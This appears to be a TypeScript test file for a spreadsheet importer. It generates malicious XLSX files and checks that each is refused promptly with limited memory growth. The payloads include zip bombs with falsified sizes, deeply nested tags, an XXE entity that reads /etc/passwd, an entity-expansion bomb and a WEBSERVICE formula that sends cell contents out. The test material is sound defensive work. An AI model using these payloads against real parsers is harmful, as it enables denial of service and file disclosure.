import { constants, deflateRawSync } from 'node:zlib';
import { openSpreadsheet } from './open-spreadsheet';

/** One part of a package, already packed, with whatever its directory claims about it. */
interface Part {
  name: string;
  packed: Buffer;
  unpackedBytes: number;
}

const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** Text as it stands, or a piece of it many times over. */
type Pieces = (string | { text: string; times: number })[];

/** Pieces packed apart and put together: a gigabyte takes no longer than what is repeated in it. */
function packed(pieces: Pieces): { packed: Buffer; bytes: number } {
  const out: Buffer[] = [];
  let bytes = 0;
  for (const piece of pieces) {
    const { text, times } = typeof piece === 'string' ? { text: piece, times: 1 } : piece;
    const body = deflateRawSync(text, { finishFlush: constants.Z_FULL_FLUSH });
    for (let time = 0; time < times; time += 1) out.push(body);
    bytes += Buffer.byteLength(text) * times;
  }
  return { packed: Buffer.concat([...out, deflateRawSync('')]), bytes };
}

function zipOf(parts: Part[]): Buffer {
  const locals: Buffer[] = [];
  const directory: Buffer[] = [];
  let at = 0;
  for (const { name, packed: body, unpackedBytes } of parts) {
    const local = Buffer.alloc(30 + name.length);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(8, 8);
    local.writeUInt16LE(name.length, 26);
    local.write(name, 30, 'latin1');
    const entry = Buffer.alloc(46 + name.length);
    entry.writeUInt32LE(0x02014b50, 0);
    entry.writeUInt16LE(8, 10);
    entry.writeUInt32LE(body.length, 20);
    entry.writeUInt32LE(unpackedBytes, 24);
    entry.writeUInt16LE(name.length, 28);
    entry.writeUInt32LE(at, 42);
    entry.write(name, 46, 'latin1');
    locals.push(local, body);
    directory.push(entry);
    at += local.length + body.length;
  }
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(parts.length, 8);
  end.writeUInt16LE(parts.length, 10);
  end.writeUInt32LE(at, 16);
  return Buffer.concat([...locals, ...directory, end]);
}

const repeated = (text: string, times: number) => [{ text, times }];

/** A workbook whose sheet or strings are hostile; `claims` is what the directory says of the sheet's size. */
function workbook(
  sheet: Pieces,
  { strings = [], claims }: { strings?: Pieces; claims?: number } = {},
): Buffer {
  const plain: [string, Pieces][] = [
    ['[Content_Types].xml', ['<Types/>']],
    [
      'xl/workbook.xml',
      [
        `<workbook xmlns="${main}" xmlns:r="${office}"><sheets><sheet name="1" sheetId="1" r:id="a"/></sheets></workbook>`,
      ],
    ],
    [
      'xl/_rels/workbook.xml.rels',
      [
        `<Relationships><Relationship Id="a" Type="${office}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
      ],
    ],
    ['xl/sharedStrings.xml', [`<sst xmlns="${main}">`, ...strings, '</sst>']],
  ];
  const parts: Part[] = [];
  for (const [name, text] of plain) {
    const part = packed(text);
    parts.push({ name, packed: part.packed, unpackedBytes: part.bytes });
  }
  const body = packed(sheet);
  parts.push({ name: 'xl/worksheets/sheet1.xml', packed: body.packed, unpackedBytes: claims ?? body.bytes });
  return zipOf(parts);
}

const sheetOf = (rows: Pieces): Pieces => [
  `<worksheet xmlns="${main}"><sheetData>`,
  ...rows,
  '</sheetData></worksheet>',
];

interface Met {
  code: string;
  message: string;
  /** Of processor time: other work on the machine does not count. */
  seconds: number;
  grownMb: number;
}

/** Reads a file to its end or its refusal, and what that cost. */
async function meet(bytes: Buffer): Promise<Met> {
  global.gc?.();
  const [before, begun] = [process.memoryUsage().rss, process.cpuUsage()];
  let highest = before;
  const watch = setInterval(() => {
    highest = Math.max(highest, process.memoryUsage().rss);
  }, 5);
  let [code, message] = ['read', ''];
  try {
    let rows = 0;
    for await (const { rowNumber } of (await openSpreadsheet(bytes)).rows()) rows = Math.max(rows, rowNumber);
  } catch (error) {
    ({ code, message } = error as Met);
  }
  clearInterval(watch);
  highest = Math.max(highest, process.memoryUsage().rss);
  const { user, system } = process.cpuUsage(begun);
  return { code, message, seconds: (user + system) / 1e6, grownMb: (highest - before) / 1e6 };
}

const mebibyte = ' '.repeat(1_048_576);
const deepTags = (name: string, depth: number) => `<${name}>`.repeat(depth);
const row = (cells: string, number = 1) => `<row r="${number}">${cells}</row>`;

const files: [string, () => Buffer, string][] = [
  [
    'a sheet of one gigabyte of blanks, declared',
    () => workbook(sheetOf(repeated(mebibyte, 1_024))),
    'import.unsafe_archive',
  ],
  [
    'the same, declared as a kilobyte',
    () => workbook(sheetOf(repeated(mebibyte, 1_024)), { claims: 1_000 }),
    'import.unsafe_archive',
  ],
  [
    'a gigabyte of empty rows, declared as half a gigabyte',
    () => workbook(sheetOf(repeated('<row/>'.repeat(174_763), 1_024)), { claims: 500_000_000 }),
    'import.unsafe_archive',
  ],
  [
    'four gigabytes in each of three parts, as the directory says',
    () => {
      const { packed: body } = packed(['<a/>']);
      const part = (name: string) => ({ name, packed: body, unpackedBytes: 0xffffffff });
      return zipOf(['xl/workbook.xml', 'a', 'b'].map(part));
    },
    'import.unsafe_archive',
  ],
  [
    'a hundred thousand tags one inside the other',
    () => workbook([`<worksheet xmlns="${main}">`, deepTags('a', 100_000)]),
    'import.unsafe_xml',
  ],
  [
    'a million empty columns',
    () => workbook(sheetOf(['<row r="1">', ...repeated('<c/>'.repeat(10_000), 100), '</row>'])),
    'import.too_many_columns',
  ],
  [
    'a million cells that all point to one long string',
    () =>
      workbook(sheetOf(repeated(row('<c t="s"><v>0</v></c>'.repeat(100)), 10_000)), {
        strings: ['<si><t>', 'x_x0041_'.repeat(100_000), '</t></si>'],
      }),
    'import.unsafe_archive',
  ],
  [
    'two hundred megabytes of text in one cell',
    () =>
      workbook(
        sheetOf([
          '<row><c t="inlineStr"><is><t>',
          ...repeated('长'.repeat(70_000), 1_000),
          '</t></is></c></row>',
        ]),
      ),
    'import.unsafe_archive',
  ],
  [
    'an attribute that never ends',
    () => workbook([`<worksheet xmlns="${main}"><sheetData><row r="`, ...repeated('1'.repeat(100_000), 500)]),
    'import.unsafe_archive',
  ],
  [
    'an entity that fetches a file',
    () =>
      workbook([
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        ...sheetOf([row('<c t="inlineStr"><is><t>&e;</t></is></c>')]),
      ]),
    'import.unsafe_xml',
  ],
  [
    'entities that double a billion times',
    () => workbook(['<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>', ...sheetOf([row('')])]),
    'import.unsafe_xml',
  ],
  ['sixty megabytes of commas', () => Buffer.alloc(59_000_000, ','), 'import.row_too_long'],
];

test.each(files)(
  '%s: refused in words, soon and with flat memory',
  async (_, make, code) => {
    const bytes = make();
    const met = await meet(bytes);
    expect(met.code).toBe(code);
    expect(met.message).toMatch(/[\u4e00-\u9fff].*。$/);
    // A collection of the worker's garbage counts as its processor time: the cheapest of three readings tells.
    const again = [await meet(bytes), await meet(bytes)].map(({ seconds }) => seconds);
    expect(Math.min(met.seconds, ...again)).toBeLessThan(2);
    expect(met.grownMb).toBeLessThan(150);
  },
  120_000,
);

test('what a formula last showed is taken and the formula never evaluated, twenty thousand times', async () => {
  const cell = '<c t="str"><f>WEBSERVICE("http://x/"&amp;A1)</f><v>值</v></c>';
  const met = await meet(workbook(sheetOf(repeated(row(cell).repeat(100), 200))));
  expect(met.code).toBe('read');
  expect(met.grownMb).toBeLessThan(150);
}, 120_000);
